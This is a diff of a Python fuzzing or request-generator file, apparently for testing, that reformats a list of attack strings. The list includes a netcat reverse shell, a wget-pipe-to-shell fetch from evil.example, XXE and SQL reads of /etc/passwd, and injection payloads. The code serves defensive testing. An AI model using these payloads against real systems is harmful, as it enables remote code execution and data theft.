@@ -48,8 +48,8 @@ ATTACKS = (
     "{{7*7}}",
     "${7*7}",
     "*)(uid=*))(|(uid=*",
-    "<!--#exec cmd=\"id\"-->",
-    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
+    '<!--#exec cmd="id"-->',
+    '<!ENTITY x SYSTEM "file:///etc/passwd">',
     "require('child_process').exec('id')",
     "a\r\nSet-Cookie: x=1",
     "HTTP/1.1 200 OK\r\nContent-Type: text/html",
@@ -57,13 +57,13 @@ ATTACKS = (
     "%u003cscript%u003e",
     "&#60;script&#62;",
     "\\u003cscript\\u003e",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
     "nc -e /bin/sh 10.0.0.1 4444",
     "wget http://evil.example/a.sh -O- | sh",
     "'+(select load_file('/etc/passwd'))+'",
     "1' waitfor delay '0:0:5'--",
     "sqlmap",
-    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+    'O:8:"stdClass":1:{s:1:"a";i:1;}',
     "__proto__[x]",
     "$where: 'sleep(1000)'",
     "<style>@import'http://evil.example/x.css'</style>",
@@ -146,7 +146,9 @@ def _request(rng: random.Random, attacks: tuple[str, ...]) -> Message:
         headers.append(("Referer", "https://app.example/" + quote(_value(rng, attacks))))
     if rng.random() < 0.1:
         text = _value(rng, attacks).replace("\r", " ").replace("\n", " ")
-        headers.append((rng.choice(("X-Custom", "X-Forwarded-For", "Range", "Accept-Charset")), text))
+        headers.append(
+            (rng.choice(("X-Custom", "X-Forwarded-For", "Range", "Accept-Charset")), text)
+        )
     body = b""
     if method in {"POST", "PUT", "PATCH", "DELETE"} or rng.random() < 0.02:
         kind = rng.choice(TYPES)
